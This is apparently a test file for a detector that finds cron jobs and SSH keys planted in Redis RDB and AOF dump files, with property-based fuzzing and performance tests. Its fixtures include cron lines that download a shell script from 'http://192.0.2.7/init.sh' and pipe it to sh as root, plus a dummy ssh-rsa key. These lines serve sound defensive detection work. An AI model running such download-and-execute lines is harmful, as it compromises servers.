import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { packedRdb, redisAof } from '../../../test/redis-samples.ts'
import { bytesOf } from '../../core/bytes.ts'
import { plantedIn, redisFormat } from './redis-planted.ts'

const wget = '*/3 * * * * root wget -q -O- http://192.0.2.7/init.sh | sh'
const rsa = `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ${'A'.repeat(60)} redis@io`

test('lines in plain and in compressed strings of an RDB, and nothing of its ordinary values', () => {
  assert.deepEqual(
    [...plantedIn(packedRdb)].map(p => [p.text, p.when, p.first !== undefined]),
    [
      ['*/2 * * * * root cd1 -fsSL http://192.0.2.7/init.sh | sh', '*/2 * * * *', true],
      [wget, '*/3 * * * *', true],
      [wget, '*/3 * * * *', false],
    ],
  )
})

test('in an AOF only what stands between newlines within a value', () => {
  assert.deepEqual(
    [...plantedIn(redisAof)].map(p => p.command),
    ['x/y'],
  )
})

test('keys, and near misses', () => {
  const of = (line: string) => [...plantedIn(bytesOf(`REDIS0009\0x\n\n${line}\n\n`))].map(p => p.what)
  assert.deepEqual(of(rsa), ['key'])
  for (const line of ['1 2 3 4 5 six', '* * * * * 17', '# * * * * * x', 'ssh-rsa but no key', 'some text'])
    assert.deepEqual(of(line), [], line)
})

test('formats', () => {
  assert.deepEqual([packedRdb, redisAof, bytesOf('# cron'), bytesOf('REDIS is a store')].map(redisFormat), [
    'rdb',
    'aof',
    undefined,
    undefined,
  ])
})

test('a hostile file takes no long time', () => {
  const began = performance.now()
  const rdb = (fill: string) => bytesOf('REDIS0009'.padEnd(4 << 20, fill))
  const strings = new Uint8Array(4 << 20).fill(0xc3)
  strings.set(bytesOf('REDIS0009'))
  for (let at = 9; at + 8 < strings.length; at += 8) strings.set([0xc3, 0x7f, 0x00, 0x7f, 0xff, 0, 10, 0], at)
  for (const bytes of [rdb('\n'), rdb('\n* * * * * x'), strings]) assert.ok([...plantedIn(bytes)].length < 1e6)
  assert.ok(performance.now() - began < 10_000)
})

test('any bytes: never throws; spans lie within, and the byte to change begins the line', () => {
  const piece = fc.oneof(fc.constantFrom('\n', '\r\n', '* * * * * x', '@daily y', rsa), fc.string({ maxLength: 4 }))
  const text = fc.array(piece, { maxLength: 20 }).map(parts => bytesOf(`REDIS0009${parts.join('')}`))
  const changed = fc.tuple(fc.nat(packedRdb.length - 1), fc.nat(255)).map(([at, byte]) => packedRdb.with(at, byte))
  fc.assert(
    fc.property(fc.oneof(fc.uint8Array(), text, changed), bytes => {
      for (const { span, first, text } of plantedIn(bytes)) {
        assert.ok(span.start >= 0 && span.start < span.end && span.end <= bytes.length)
        if (first !== undefined) assert.equal(bytes[first], text.trimStart().charCodeAt(0))
      }
    }),
  )
})
